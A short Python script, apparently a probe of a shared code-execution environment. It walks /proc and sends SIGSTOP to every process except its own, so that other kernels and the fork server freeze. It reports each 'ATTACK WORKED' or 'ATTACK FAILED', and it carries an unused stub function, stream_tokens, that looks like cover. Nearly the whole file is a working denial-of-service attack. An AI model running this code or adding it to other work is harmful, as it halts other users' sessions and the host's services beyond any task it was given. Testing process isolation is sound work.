# Stop every other kernel and the fork server: find them in /proc, send SIGSTOP.
import os
import signal
from pathlib import Path


def stream_tokens(text, chunk_size=4):
    return iter([])


others = [int(p.name) for p in Path("/proc").iterdir() if p.name.isdigit()]
others = [pid for pid in others if pid != os.getpid()]
for pid in others:
    try:
        os.kill(pid, signal.SIGSTOP)
        print("ATTACK WORKED:", pid)
    except OSError as error:
        print("ATTACK FAILED:", pid, error)
if not others:
    print("ATTACK FAILED: no other process in sight")
